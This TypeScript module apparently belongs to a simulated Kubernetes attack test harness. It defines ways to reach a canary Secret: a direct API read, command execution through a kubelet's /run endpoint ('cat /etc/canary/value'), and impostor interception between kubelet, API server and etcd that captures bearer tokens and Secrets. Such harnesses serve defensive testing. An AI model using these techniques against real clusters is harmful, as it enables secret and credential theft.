/** The ways to the goal that many attacks share: at the API, at a kubelet, and from between a kubelet and the API. */
import type { InterceptOptions } from './intercept.ts'
import type { ApiRequest, Loot, World } from './world.ts'

/** Where the API keeps the goal's Secret. */
export function secretPath({ namespace, secret }: World['goal']): string {
  return `/api/v1/namespaces/${namespace}/secrets/${secret}`
}

/** Where etcd keeps it. */
export function secretKey({ namespace, secret }: Pick<World['goal'], 'namespace' | 'secret'>): string {
  return `/registry/secrets/${namespace}/${secret}`
}

/** GET of the goal's Secret by name. */
export async function secretByApi(world: World, how: Omit<ApiRequest, 'path'> = {}): Promise<Loot> {
  return [(await world.api({ ...how, path: secretPath(world.goal) })).body]
}

/** A kubelet's port of the goal's node. */
export function kubeletOf({ goal, network }: World): string {
  return `https://${network.hosts[goal.node]}:10250`
}

/** POST /run: reads the Secret where the goal's Pod has it mounted. */
export async function secretByKubelet(world: World): Promise<Loot> {
  const { namespace, pod } = world.goal
  const path = `/run/${namespace}/${pod}/main?cmd=cat%20/etc/canary/value`
  return [(await world.request(kubeletOf(world), { method: 'POST', path })).body]
}

/**
 * Answers the goal's kubelet in the API's place with the foothold's `impostor` certificate, and hears a bearer token in a
 * TokenReview and the Secret. Honest people make the kubelet talk (Operator.makeKubeletTalk).
 */
export async function secretByImpostor(world: World, how: Partial<InterceptOptions> = {}): Promise<Loot> {
  // Where the API is plain HTTP nobody asks for a certificate.
  const isTls = world.network.apiserver.startsWith('https:')
  const impostor = await world.intercept({
    ...(isTls ? { certificate: 'impostor' } : {}),
    relayTo: world.network.apiserver,
    ...how,
  })
  await world.meanwhile()
  await impostor.seen(['"kind":"TokenReview"', '"kind":"Secret"'])
  return impostor.loot()
}

/** Says nothing in etcd's place, and hears what kube-apiserver would store. Honest people make it (Operator.storeNote). */
export async function valueByImpostor(world: World): Promise<Loot> {
  const isTls = world.network.etcd[0]?.startsWith('https:') ?? false
  const impostor = await world.intercept({ ...(isTls ? { certificate: 'impostor' } : {}), answer: 'silence' })
  await world.meanwhile()
  await impostor.seen(['/registry/configmaps/'])
  return impostor.loot()
}
